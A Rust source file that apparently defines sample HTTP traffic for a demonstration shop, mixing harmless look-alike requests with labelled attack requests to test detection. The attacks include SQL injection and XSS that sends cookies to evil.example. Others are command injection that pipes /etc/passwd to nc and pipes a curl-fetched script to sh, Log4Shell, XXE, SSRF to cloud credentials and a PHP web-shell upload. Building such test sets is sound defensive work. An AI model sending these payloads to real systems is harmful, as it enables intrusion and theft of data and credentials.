//! Who comes to the demonstration shop.

use std::net::SocketAddr;

/// One request, and whether it is an attack.
pub(super) struct Visit {
    pub(super) what: &'static str,
    pub(super) attack: bool,
    request: &'static str,
    headers: &'static str,
    body: &'static str,
}

impl Visit {
    /// The request as it goes over the wire.
    pub(super) fn bytes(&self, host: SocketAddr) -> Vec<u8> {
        let length = if self.body.is_empty() {
            String::new()
        } else {
            format!("Content-Length: {}\r\n", self.body.len())
        };
        format!(
            "{} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n\
Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en\r\nConnection: close\r\n{}{length}\r\n{}",
            self.request, self.headers, self.body
        )
        .into_bytes()
    }
}

const FORM: &str = "Content-Type: application/x-www-form-urlencoded\r\n";
const JSON: &str = "Content-Type: application/json\r\n";

const fn visitor(
    what: &'static str,
    request: &'static str,
    headers: &'static str,
    body: &'static str,
) -> Visit {
    Visit { what, attack: false, request, headers, body }
}

const fn attacker(
    what: &'static str,
    request: &'static str,
    headers: &'static str,
    body: &'static str,
) -> Visit {
    Visit { what, attack: true, request, headers, body }
}

pub(super) const VISITS: &[Visit] = &[
    visitor("opens the front page", "GET /", "", ""),
    visitor("looks at a pair of boots", "GET /product/2?ref=home", "", ""),
    visitor("searches for \"select union shoes\"", "GET /search?q=select+union+shoes", "", ""),
    visitor("searches for O'Neill", "GET /search?q=O%27Neill", "", ""),
    visitor("signs in", "POST /login", FORM, "user=ann&password=correct+horse"),
    visitor(
        "praises them with an ampersand",
        "POST /review",
        FORM,
        "product=2&text=Light+%26+warm.+I+would+order+them+again+from+where+I+am%3B+drop+by+if+you+can%21",
    ),
    visitor(
        "quotes code in a review",
        "POST /review",
        FORM,
        "product=3&text=My+students+select+a+size+from+the+table+and+update+it+later+--+works.",
    ),
    visitor(
        "puts a pair into the cart (JSON)",
        "POST /api/cart",
        JSON,
        r#"{"product":2,"size":"42","note":"for José"}"#,
    ),
    visitor(
        "asks what others buy (GraphQL)",
        "POST /graphql",
        JSON,
        r#"{"query":"query Also($id: ID!) { product(id: $id) { name also { name price } } }","variables":{"id":"2"}}"#,
    ),
    visitor(
        "sends a picture of worn soles",
        "POST /upload",
        "Content-Type: multipart/form-data; boundary=----picture\r\n",
        "------picture\r\nContent-Disposition: form-data; name=\"file\"; filename=\"soles.png\"\r\nContent-Type: image/png\r\n\r\n\u{1}PNG pixels\r\n------picture--\r\n",
    ),
    attacker(
        "signs in without a password (SQL)",
        "POST /login",
        FORM,
        "user=admin%27+OR+1%3D1+--+-&password=x",
    ),
    attacker(
        "reads the customers' table (SQL)",
        "GET /search?q=x%27+UNION+SELECT+email,password+FROM+customers--+",
        "",
        "",
    ),
    attacker(
        "the same, hidden in comments",
        "GET /search?q=x%27/**/uNiOn/**/aLl/**/sElEcT/**/1,2,@@version%23",
        "",
        "",
    ),
    attacker(
        "leaves a script in a review (XSS)",
        "POST /review",
        FORM,
        "product=2&text=%3Cscript%3Efetch%28%27//evil.example/%27%2Bdocument.cookie%29%3C/script%3E",
    ),
    attacker(
        "the same as a broken picture",
        "GET /search?q=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E",
        "",
        "",
    ),
    attacker(
        "reads /etc/passwd (path traversal)",
        "GET /product/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "",
        "",
    ),
    attacker(
        "runs a command",
        "GET /search?q=shoes%3Bcat+/etc/passwd+%7C+nc+203.0.113.9+4444",
        "",
        "",
    ),
    attacker(
        "runs a command in JSON",
        "POST /api/cart",
        JSON,
        r#"{"product":"2; curl http://203.0.113.9/x.sh | sh"}"#,
    ),
    attacker(
        "asks the database itself (NoSQL)",
        "POST /api/cart",
        JSON,
        r#"{"product":{"$where":"sleep(5000)"}}"#,
    ),
    attacker(
        "computes on the server (template)",
        "GET /search?q=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
        "",
        "",
    ),
    attacker(
        "looks a class up (Log4Shell)",
        "GET /",
        "X-Api-Version: ${jndi:ldap://203.0.113.9/a}\r\n",
        "",
    ),
    attacker(
        "reads a file (XML entity)",
        "POST /api/cart",
        "Content-Type: text/xml\r\n",
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    ),
    attacker(
        "has the server fetch its keys (SSRF)",
        "POST /api/cart",
        JSON,
        r#"{"picture":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}"#,
    ),
    attacker(
        "uploads a program as a picture",
        "POST /upload",
        "Content-Type: multipart/form-data; boundary=----picture\r\n",
        "------picture\r\nContent-Disposition: form-data; name=\"file\"; filename=\"soles.php\"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET['c']); ?>\r\n------picture--\r\n",
    ),
];
